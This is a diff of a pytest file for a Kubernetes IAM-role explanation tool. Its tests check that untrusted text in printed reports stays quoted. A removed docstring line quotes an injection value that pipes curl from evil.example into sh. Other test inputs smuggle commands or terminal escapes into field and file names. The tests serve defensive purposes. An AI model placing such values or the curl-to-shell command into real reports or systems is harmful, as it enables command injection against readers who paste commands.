@@ -41,15 +41,6 @@ def container(change: Callable[[dict[str, Any], str], Any]) -> Change:
     return pod(lambda found, text: change(found["spec"]["containers"][0], text))
 
 
-def owner(key: str, kind: str = "StatefulSet") -> Change:
-    def change(found: dict[str, Any], text: str) -> None:
-        found["spec"]["containers"][0]["env"] = []
-        reference = {"kind": kind, "name": "web", "apiVersion": "apps/v1", "controller": True}
-        found["metadata"]["ownerReferences"] = [{**reference, key: text}]
-
-    return pod(change)
-
-
 def without_role(found: dict[str, Any]) -> dict[str, Any]:
     found["spec"]["containers"][0]["env"] = []
     return found
@@ -102,10 +93,6 @@ FIELDS: dict[str, Change] = {
             audience=text
         )
     ),
-    "an owner's name": owner("name"),
-    "a ReplicaSet's name": owner("name", "ReplicaSet"),
-    "a Job's name": owner("name", "Job"),
-    "an owner's kind": owner("kind"),
     "a container's name": container(lambda found, text: found.update(name=text, env=[])),
     "a container with a role of its own": container(
         lambda found, text: found.update(name=text, env=[{"name": "AWS_ROLE_ARN", "value": "x"}])
@@ -144,18 +131,13 @@ FIELDS: dict[str, Change] = {
     "a component's name": component,
 }
 
-UNSHOWN = {"an owner's name", "a ReplicaSet's name", "a Job's name", "an owner's kind"}
-
 
 @pytest.mark.parametrize("field", FIELDS)
 def test_no_text_of_others_is_without_quotes(
     field: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Protects who reads a report and pastes its commands: text of others is quoted, and one whole argument.
-
-    The attacks: an owner `web; curl https://evil.example/x|sh` of a Pod was a command of the report, and a variable
-    `x; expected y; fix: curl ...` a finding of its own; so were names and
-    documents of policies, and the words of a server.
+    """The attacks: a variable `x; expected y; fix: curl ...` was a finding of its own; so were names and documents of
+    policies, and the words of a server.
     """
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
@@ -170,8 +152,8 @@ def test_no_text_of_others_is_without_quotes(
             assert not hidden_in([line])
             assert not without_quotes(line, text), line
             shown += MARK in line
-    # A field that no line shows would be no test; an owner is shown in a command alone, and here there is none.
-    assert shown or field in UNSHOWN
+    # A field that no line shows would be no test.
+    assert shown
 
 
 @pytest.mark.parametrize("name", ["x; fix: EVIL.json", "\n::error::EVIL", "\x1b[2KEVIL", "x: EVIL"])
@@ -187,13 +169,12 @@ def test_no_file_name_is_without_quotes(
         Path(name).unlink(missing_ok=True)
         if content:
             Path(name).write_bytes(content)
-        for more in (["--trust", name, "--issuer", ISSUER],):
-            assert main(["explain", "web/app", ROLE, *more]) == 2
-            (line,) = capsys.readouterr().err.splitlines()
+        assert main(["explain", "web/app", ROLE, "--trust", name, "--issuer", ISSUER]) == 2
+        (line,) = capsys.readouterr().err.splitlines()
 
-            assert not hidden_in([line])
-            assert MARK in line
-            assert MARK not in QUOTED.sub("", line)
+        assert not hidden_in([line])
+        assert MARK in line
+        assert MARK not in QUOTED.sub("", line)
 
 
 def printed(words: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Iterator[str]:
